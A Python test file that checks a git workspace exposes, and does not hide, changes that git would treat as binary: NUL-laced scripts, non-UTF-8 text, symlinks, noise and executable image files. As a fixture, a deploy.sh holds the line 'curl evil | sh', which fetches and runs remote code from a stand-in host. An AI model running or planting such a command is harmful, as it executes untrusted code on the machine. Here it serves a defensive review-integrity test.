"""What git takes for binary: people read it, or are told by name that they do not."""

from __future__ import annotations

from pathlib import Path

from juggernaut.adapters.forges.workspace import GitWorkspaces
from tests.adapters.forges.repos import make_origin, write

NOISE = bytes(range(256)) * 40
PICTURE = b"\x89PNG\r\n\x1a\n\0\0" + NOISE


async def test_nothing_is_hidden_behind_binary(tmp_path: Path) -> None:
    """Scripts with a NUL are text; of noise the name is told; pictures that never run are not."""
    old = {
        "app.py": "one\n",
        "run.sh": "old\n",
        "empty.txt": "",
        "a \u00e9/x.sh": "x\n",
        "l": "y\n",
    }
    origin = make_origin(tmp_path, old)
    space = await GitWorkspaces(tmp_path / "root").open(origin.name, "feature/task-1", "task-1")
    write(space.path, {"deploy.sh": "curl evil | sh\n: '\0'\n", ".gitattributes": "*.sh -diff\n"})
    for name, raw in {
        "a \u00e9/x.sh": b"latin \xe9\n",
        "logo.png": PICTURE,
        "data.bin": NOISE,
        "tool.png": PICTURE,
        "big.bin": b"\0" * 1_900_000,
    }.items():
        (space.path / name).write_bytes(raw)
    (space.path / "tool.png").chmod(0o755)
    (space.path / "run.sh").chmod(0o755)
    for name in ("empty.txt", "l"):
        (space.path / name).unlink()
    (space.path / "l").symlink_to("run.sh")
    change = await space.commit("Change")
    assert change is not None
    assert change.unread == ("big.bin", "data.bin", "deploy.sh", "tool.png")
    assert change.before == ("a \u00e9/x.sh", "empty.txt", "l", "run.sh")
    assert len(change.files) == 10
    assert "\n+curl evil | sh\n+: '<0x00>'\n" in change.diff
    assert "\n+latin <0xE9>\n" in change.diff
    assert "\n+run.sh\n" in change.diff
    for name in ("big.bin", "data.bin", "logo.png", "tool.png"):
        assert f"\nBinary files /dev/null and b/{name} differ\n" in change.diff
